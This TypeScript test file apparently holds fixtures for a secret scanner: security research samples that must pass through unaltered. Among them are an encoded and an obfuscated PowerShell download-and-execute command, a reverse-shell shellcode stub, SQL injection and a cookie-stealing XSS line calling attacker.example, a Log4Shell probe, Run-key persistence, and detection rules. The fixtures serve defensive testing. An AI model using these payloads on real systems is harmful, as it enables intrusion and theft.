// Research material that holds no secret and must come back byte for byte: hashes and IOC lists,
// commit ids, identifiers, addresses, wallets, detection rules, encoded payloads, public keys and
// certificates. Values are public (EICAR, well-known addresses) or fixed-seed pseudo-random.
import { ALNUM, BASE64, HEX, b64, body, pem, uuid, type NegativeSample } from './corpus-kit.test-support.js';

const sha256 = (label: string) => body(label, 64, HEX);
const sha1 = (label: string) => body(label, 40, HEX);
const md5 = (label: string) => body(label, 32, HEX);
const neg = (what: string, text: string): NegativeSample => ({ what, text });

const gitLog = [1, 2, 3]
  .map(
    (i) =>
      `commit ${sha1(`git/${i}`)}\nAuthor: Analyst ${i} <analyst${i}@example.com>\nDate:   Mon Mar 2 09:1${i}:00 2026 +0000\n\n    detections: tune rule ${i} for T1059.001\n`,
  )
  .join('\n');
const oneline = [1, 2, 3, 4].map((i) => `${sha1(`git/short${i}`).slice(0, 7)} (HEAD -> main) sigma: rule ${i}`).join('\n');
const ed25519Pub = (label: string) => `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${body(label, 43, BASE64)} analyst@workstation`;
const rsaPub = (label: string) => `ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQ${body(label, 520, BASE64)}= deploy@ci`;
const certBody = [
  'MIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBaMQswCQYDVQQGEwJJ',
  ...[0, 1, 2, 3, 4, 5, 6].map((i) => body(`cert/${i}`, 64, BASE64)),
  `${body('cert/end', 36, BASE64)}==`,
].join('\n');
const pubKeyBody = ['MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA', ...[0, 1, 2, 3, 4].map((i) => body(`pub/${i}`, 64, BASE64)), 'IDAQAB'].join('\n');
const pgpBody = `\nmQINBGXz${body('pgp/0', 56, BASE64)}\n${[1, 2, 3, 4, 5].map((i) => body(`pgp/${i}`, 64, BASE64)).join('\n')}\n=${body('pgp/crc', 4, BASE64)}`;
// The first bytes of a public, widely documented x64 reverse-shell stub (msfvenom), as analysts paste it.
const stub = 'fc4883e4f0e8c0000000415141505251564831d265488b5260488b5218488b5220488b7250480fb74a4a4d31c94831c0ac3c617c022c2041c1c90d4101c1e2ed5241514';
const psCommand = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')", 'utf16le').toString('base64');
const hexdump = [0, 1, 2, 3]
  .map((i) => {
    const bytes = body(`xxd/${i}`, 32, HEX);
    const groups = bytes.match(/.{4}/g)?.join(' ') ?? '';
    return `${(i * 16).toString(16).padStart(8, '0')}: ${groups}  ................`;
  })
  .join('\n');

export const HASH_AND_ID_NEGATIVES: NegativeSample[] = [
  neg('MD5 in an IOC list', `# IOCs (MD5)\n44d88612fea8a8f36de82e1278abb02f\n${md5('ioc/md5/1')}\n${md5('ioc/md5/2')}\n`),
  neg('SHA-1 in an IOC list', `sha1,filename\n3395856ce81f2b7382dee72602f798b642f14140,eicar.com\n${sha1('ioc/sha1/1')},loader.dll\n`),
  neg(
    'SHA-256 in an IOC list',
    `| sha256 | family |\n|---|---|\n| ed01ebfbc9eb5bbea545af4d01bf5f1071661840480439c6e5babe8e080e41aa | WannaCry |\n| 027cc450ef5f8c5f653329641ec1fed91f694e0d229928963b30f6b0d7d3a745 | NotPetya |\n| ${sha256('ioc/sha256/1')} | unknown |`,
  ),
  neg(
    'hashes in a sentence',
    `The dropper (SHA-256 ${sha256('ioc/prose/1')}, MD5 ${md5('ioc/prose/2')}) writes a second stage whose SHA-1 is ${sha1('ioc/prose/3')}.`,
  ),
  neg('VirusTotal URL', `https://www.virustotal.com/gui/file/275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f/detection`),
  neg('git log', gitLog),
  neg('git log --oneline', oneline),
  neg('commit URL', `Fixed in https://github.com/acme-sec/sigma-rules/commit/${sha1('git/url')} (see also ${sha1('git/url2').slice(0, 12)}).`),
  neg('UUIDs', `case_id: ${uuid('case/1')}\nalert_ids:\n  - ${uuid('alert/1')}\n  - ${uuid('alert/2')}\n`),
  neg(
    'Windows event XML',
    `<Event><System><Provider Name="Microsoft-Windows-Security-Auditing" Guid="{54849625-5478-4994-A5BA-3E3B0328C30D}"/><EventID>4624</EventID></System><EventData><Data Name="TargetUserSid">S-1-5-21-3623811015-3361044348-30300820-1013</Data><Data Name="LogonGuid">{${uuid('logon/1').toUpperCase()}}</Data></EventData></Event>`,
  ),
  neg(
    'CVE, CWE, ATT&CK, CAPEC and GHSA ids',
    `CVE-2021-44228 (CWE-502, CWE-917) maps to ATT&CK T1190 and T1059.004 (tactic TA0001); CAPEC-248; advisory GHSA-jfh8-c2jp-5v3q. See also CVE-2024-3094.`,
  ),
  neg(
    'ATT&CK JSON excerpt',
    `{"type": "attack-pattern", "id": "attack-pattern--${uuid('stix/1')}", "external_references": [{"source_name": "mitre-attack", "external_id": "T1003.001", "url": "https://attack.mitre.org/techniques/T1003/001"}]}`,
  ),
  neg(
    'IPv4, IPv6 and CIDRs',
    `Blocklist:\n198.51.100.23\n203.0.113.0/24\n192.0.2.15:4444\n2001:db8::1\n2001:db8:85a3::8a2e:370:7334/64\nfe80::1ff:fe23:4567:890a%eth0\n[2001:db8::1]:8443`,
  ),
  neg('domains and defanged URLs', `C2: update-check[.]example[.]net, hxxps://cdn-static[.]example[.]org/js/app.js, evil.example.com:8443/gate.php`),
  neg(
    'URLs without credentials',
    `https://attack.mitre.org/techniques/T1566/001/\nhttps://nvd.nist.gov/vuln/detail/CVE-2024-3094\nhttps://example.com/search?q=token+rotation&page=2#results`,
  ),
  neg(
    'URL with a user and no password',
    `git clone https://analyst42@bitbucket.org/acme-sec/playbooks.git\nftp://anonymous@ftp.example.org/pub/\nssh://git@gitlab.example.com:2222/soc/rules.git`,
  ),
  neg(
    'SSH clone URL and shell prompts',
    `git@github.com:acme-sec/detections.git\nroot@kali:~/tools# ssh -p 2222 admin@10.0.0.5\nscp loot.tgz user@198.51.100.23:/tmp/`,
  ),
  neg('Sentry DSN (public by design)', `Sentry.init({ dsn: "https://${md5('sentry/dsn')}@o450123.ingest.sentry.io/5512345" });`),
  neg(
    'Bitcoin addresses',
    `Ransom note: send 0.5 BTC to 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa or 3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy or bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq.`,
  ),
  neg(
    'Ethereum and Monero addresses',
    `ETH: 0xde0B295669a9FD93d5F28D9Ec85E40f4cb697BAe\nXMR: 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A`,
  ),
  neg('Tor onion address', `Leak site: http://duckduckgogg42xjoc72x3sjasowoarfbgcmvfimaftt6twagswzczad.onion/`),
  neg(
    'base64 of ordinary text',
    `echo SGVsbG8sIHdvcmxkIQ== | base64 -d\n${b64('The quick brown fox jumps over the lazy dog while the analyst reviews the timeline.')}`,
  ),
  neg(
    'package-lock integrity',
    `"node_modules/ms": {\n  "version": "2.1.3",\n  "resolved": "https://registry.npmjs.org/ms/-/ms-2.1.3.tgz",\n  "integrity": "sha512-${body('lock/1', 86, BASE64)}=="\n}`,
  ),
  neg('Docker image digests', `FROM python:3.12-slim@sha256:${sha256('docker/1')}\n$ docker pull ghcr.io/acme-sec/sandbox@sha256:${sha256('docker/2')}`),
  neg(
    'fuzzy hashes and fingerprints',
    `ssdeep: 3072:${body('ssdeep/1', 40, BASE64)}:${body('ssdeep/2', 20, BASE64)}\nimphash: ${md5('imphash')}\nTLSH: T1${body('tlsh', 70, HEX).toUpperCase()}\nJA3: ${md5('ja3')}\nJA4: t13d1516h2_8daaf6152771_02713d6af862`,
  ),
  neg(
    'SSH host key fingerprint',
    `The authenticity of host 'github.com (140.82.121.4)' can't be established.\nED25519 key fingerprint is SHA256:+DiY3wvvV6TuJJhbpZisF/zLDA0zPMSvHdkr4UvCOqU.`,
  ),
  neg('certificate fingerprint', `SHA256 Fingerprint=${body('certfp', 32, HEX).toUpperCase().match(/../g)?.join(':')}`),
  neg(
    'trace and span ids',
    `2026-03-02T09:14:55.123Z INFO request done trace_id=${md5('trace/1')} span_id=${body('span/1', 16, HEX)} status=200 duration_ms=42`,
  ),
  neg(
    'AWS identifiers',
    `arn:aws:iam::123456789012:role/ir-readonly\narn:aws:kms:eu-west-1:123456789012:key/${uuid('kms/1')}\nETag: "d41d8cd98f00b204e9800998ecf8427e"\nx-amz-request-id: ${body('amzreq', 16, HEX).toUpperCase()}`,
  ),
  neg(
    'az account show',
    `{\n  "environmentName": "AzureCloud",\n  "id": "${uuid('az/sub')}",\n  "isDefault": true,\n  "name": "IR-Lab",\n  "tenantId": "${uuid('az/tenant')}",\n  "user": { "name": "analyst@example.com", "type": "user" }\n}`,
  ),
];

export const RULE_AND_PAYLOAD_NEGATIVES: NegativeSample[] = [
  neg(
    'YARA rule',
    `rule Hunt_Cloud_Key_Harvester\n{\n    meta:\n        author = "SOC"\n        date = "2026-03-02"\n        hash = "${sha256('yara/hash')}"\n    strings:\n        $mz = { 4D 5A 90 00 }\n        $aws = /AKIA[0-9A-Z]{16}/ ascii\n        $s1 = "aws_secret_access_key" ascii wide\n        $s2 = "password" nocase\n    condition:\n        $mz at 0 and $aws and any of ($s*)\n}`,
  ),
  neg(
    'Sigma rule',
    `title: Suspicious Encoded PowerShell Command Line\nid: ${uuid('sigma/1')}\nstatus: test\nlogsource:\n    category: process_creation\n    product: windows\ndetection:\n    selection:\n        Image|endswith: '\\powershell.exe'\n        CommandLine|contains:\n            - ' -enc '\n            - ' -EncodedCommand '\n    condition: selection\nlevel: high\ntags:\n    - attack.execution\n    - attack.t1059.001`,
  ),
  neg(
    'Suricata rule',
    `alert http $HOME_NET any -> $EXTERNAL_NET any (msg:"ET TROJAN Possible Beacon"; flow:established,to_server; content:"POST"; http_method; content:"/gate.php"; http_uri; content:"|3a 20|token="; sid:9000001; rev:2;)`,
  ),
  neg('PowerShell encoded command', `powershell.exe -NoP -NonI -W Hidden -Enc ${psCommand}`),
  neg(
    'PowerShell obfuscation',
    "$a = 'Down'+'load'+'Str'+'ing'; I`E`X ((New-Object Net.WebClient).$a.Invoke('ht'+'tp://198.51.100.23/p.ps1'))\n& ([scriptblock]::Create([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($env:P))))",
  ),
  neg('shellcode as a C array', `unsigned char buf[] =\n"${(stub.match(/../g) ?? []).map((b) => `\\x${b}`).join('')}";`),
  neg(
    'shellcode as base64 in an analysis',
    `Stage 2 decodes this blob and jumps to it (x64 reverse shell stub):\n$b = [Convert]::FromBase64String("${Buffer.from(stub, 'hex').toString('base64')}")`,
  ),
  neg('hex dump', `$ xxd -l 64 sample.bin\n${hexdump}`),
  neg(
    'SQL injection and XSS payloads',
    `GET /items.php?id=1'%20UNION%20SELECT%20username,password%20FROM%20users--%20- HTTP/1.1\n<script>fetch('//attacker.example/c?'+document.cookie)</script>`,
  ),
  neg(
    'Log4Shell probe in an access log',
    `203.0.113.9 - - [02/Mar/2026:09:14:55 +0000] "GET /?x=\${jndi:ldap://198.51.100.23:1389/a} HTTP/1.1" 404 153 "-" "\${jndi:dns://x.example.net/ua}"`,
  ),
  neg('SSH public keys', `# authorized_keys\n${ed25519Pub('sshpub/1')}\n${rsaPub('sshpub/2')}`),
  neg('public key PEM', pem('PUBLIC KEY', pubKeyBody)),
  neg('X.509 certificate', `issuer=CN = R11, O = Let's Encrypt, C = US\n${pem('CERTIFICATE', certBody)}`),
  neg('PGP public key', pem('PGP PUBLIC KEY BLOCK', pgpBody)),
  neg(
    'Kubernetes Deployment reading a Secret',
    `apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: misp\nspec:\n  template:\n    spec:\n      containers:\n        - name: misp\n          image: ghcr.io/misp/misp-docker/misp-core:latest\n          env:\n            - name: MYSQL_PASSWORD\n              valueFrom:\n                secretKeyRef:\n                  name: misp-db\n                  key: password\n`,
  ),
  neg(
    'alg none discussed in prose',
    `With alg "none" the header eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0 decodes to {"alg":"none","typ":"JWT"}; a server that accepts it skips the signature check entirely.`,
  ),
  neg(
    'GitHub API JSON',
    `{"sha": "${sha1('ghapi/sha')}", "node_id": "C_kwDOAbc12NoAKDA5${body('ghapi/node', 16, HEX)}", "url": "https://api.github.com/repos/acme-sec/rules/git/commits/${sha1('ghapi/sha')}"}`,
  ),
  neg('a repository public key for Actions secrets', `{"key_id": "568250167242549743", "key": "${body('ghapi/pubkey', 43, BASE64)}="}`),
  neg(
    'Java stack trace',
    `java.lang.NullPointerException: Cannot invoke "String.length()" because "token" is null\n\tat com.acme.ir.auth.TokenFilter.doFilter(TokenFilter.java:57)\n\tat org.apache.catalina.core.ApplicationFilterChain.internalDoFilter(ApplicationFilterChain.java:178)\n\tat java.base/java.lang.Thread.run(Thread.java:1583)`,
  ),
  neg(
    'crash dump addresses',
    `Faulting module: ntdll.dll, version 10.0.22621.2506, offset 0x00000000000a3f2c\nrip=00007ffb1c2d3e4f rsp=000000e1a2b3c4d8 rax=0000000000000000`,
  ),
  neg(
    'nmap output',
    `Nmap scan report for 198.51.100.23\nPORT     STATE SERVICE  VERSION\n22/tcp   open  ssh      OpenSSH 9.6p1 (protocol 2.0)\n| ssh-hostkey:\n|   256 ${body('nmap/fp', 32, HEX).match(/../g)?.join(':')} (ED25519)\n443/tcp  open  ssl/http nginx 1.24.0`,
  ),
];

export const ARTEFACT_NEGATIVES: NegativeSample[] = [
  neg(
    'container and ssh ports on command lines',
    'docker run -d -p 8080:80 -p 8443:443 nginx:1.27\nssh -p 2222 admin@bastion.example.com\nmysql -u root -p -P 3306 -h db.internal',
  ),
  neg(
    'passwords read from the environment',
    'redis-cli -a "$REDIS_PASSWORD" ping\nsshpass -p "$SSH_PW" ssh host\necho "$CI_TOKEN" | docker login -u ci --password-stdin ghcr.io',
  ),
  neg(
    'Digest authorization (a one-time hash over a nonce)',
    'Authorization: Digest username="alice", realm="api", nonce="dcd98b7102dd2f0e8b11d0f600bfb0c093", uri="/dir/index.html", response="6629fae49393a05397450978507c4ef1"',
  ),
  neg(
    'web access log',
    `198.51.100.23 - - [02/Mar/2026:09:14:55 +0000] "GET /static/app.${body('web/hash', 20, HEX)}.js HTTP/2.0" 200 48213 "https://ir.example.com/cases" "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36"`,
  ),
  neg(
    'tcpdump line',
    `09:14:55.123456 IP 10.0.3.4.51514 > 198.51.100.23.443: Flags [P.], seq 1:518, ack 1, win 502, options [nop,nop,TS val 3051234567 ecr 987654321], length 517`,
  ),
  neg(
    'Windows Run key persistence',
    `reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v OneDriveUpdate /t REG_SZ /d "C:\\Users\\Public\\svchost.exe -k netsvcs" /f`,
  ),
  neg(
    'DKIM-Signature header',
    `DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=example.com; s=selector1;\n\th=from:to:subject:date:message-id; bh=${body('dkim/bh', 43, BASE64)}=;\n\tb=${body('dkim/b1', 64, BASE64)}\n\t ${body('dkim/b2', 64, BASE64)}\n\t ${body('dkim/b3', 42, BASE64)}==`,
  ),
  neg(
    'Message-ID and Received headers',
    `Message-ID: <CAF${body('mid/1', 40, HEX)}@mail.example.com>\nReceived: from mail.example.com (mail.example.com [192.0.2.25]) by mx.example.net with ESMTPS id ${body('mid/2', 12, HEX).toUpperCase()}`,
  ),
  neg(
    'hashed known_hosts line',
    `|1|${body('kh/salt', 27, BASE64)}=|${body('kh/hash', 27, BASE64)}= ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${body('kh/key', 43, BASE64)}`,
  ),
  neg(
    'GPG fingerprint',
    `pub   ed25519 2026-01-12 [SC]\n      ${body('gpg/fp', 40, HEX).toUpperCase().match(/.{4}/g)?.join(' ')}\nuid           [ultimate] SOC Signing Key <soc@example.com>`,
  ),
  neg(
    'subresource integrity',
    `<script src="https://cdn.example.com/lib.min.js" integrity="sha384-${body('sri/1', 64, BASE64)}" crossorigin="anonymous"></script>`,
  ),
  neg('CSP nonce', `Content-Security-Policy: default-src 'self'; script-src 'self' 'nonce-${body('csp/1', 22, BASE64)}=='`),
  neg(
    'PKCE challenge (RFC 7636 example)',
    `GET /authorize?response_type=code&client_id=ir-portal&code_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM&code_challenge_method=S256`,
  ),
  neg('Stripe publishable key (public by design)', `<script>const stripe = Stripe('pk_live_${body('stripe/pk', 99, `${HEX}ABCDEFGHIJ`)}');</script>`),
  neg(
    'Mapbox public token (public by design)',
    `mapboxgl.accessToken = 'pk.${Buffer.from('{"u":"acme-sec","a":"clx0example"}').toString('base64url')}.${body('mapbox/pk', 22, `${HEX}ABCDEFGH_-`)}';`,
  ),
  neg('Twilio account SID', `Messages were sent from the account AC${md5('twilio/sid')} through the Messaging Service MG${md5('twilio/mg')}.`),
  neg(
    'chat ids and snowflakes',
    `Slack channel C024BE91L, user U0G9QF9C6; Discord guild 81384788765712384, message 1199374612012345678; Telegram chat_id=-1001234567890`,
  ),
  neg(
    'data URI image',
    `<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==" alt="">`,
  ),
  neg('go.sum and pip hashes', `github.com/pkg/errors v0.9.1 h1:${body('gosum/1', 43, BASE64)}=\nrequests==2.31.0 --hash=sha256:${sha256('pip/1')}`),
  neg(
    'Nix store path and IPFS CID',
    `/nix/store/${body('nix/1', 32, '0123456789abcdfghijklmnpqrsvwxyz')}-openssl-3.0.13\nipfs://bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi`,
  ),
  neg('detection names and MAC addresses', `Defender: Trojan:Win32/Emotet.RPX!MTB on host WS-0142 (00:1A:2B:3C:4D:5E); quarantine id ${uuid('defender/1')}`),
  neg('version and build ids', `secgate v2.14.0-rc.1+build.20260302.${sha1('build/1').slice(0, 7)} (node v20.19.0, linux-x64)`),
  neg(
    'API response ids',
    `{"id": "msg_01${body('resp/msg', 22, ALNUM)}", "type": "message"}\n{"id": "chatcmpl-${body('resp/oai', 29, ALNUM)}", "system_fingerprint": "fp_${body('resp/fp', 10, HEX)}"}`,
  ),
  neg(
    'Stripe object ids',
    `customer cus_${body('stripe/cus', 14, ALNUM)} paid with pi_3${body('stripe/pi', 23, ALNUM)} (charge ch_3${body('stripe/ch', 23, ALNUM)})`,
  ),
  neg(
    'a JWKS of public keys',
    JSON.stringify({ keys: [{ kty: 'RSA', use: 'sig', kid: body('jwks/kid', 40, HEX), alg: 'RS256', n: body('jwks/n', 342, `${ALNUM}_-`), e: 'AQAB' }] }),
  ),
];
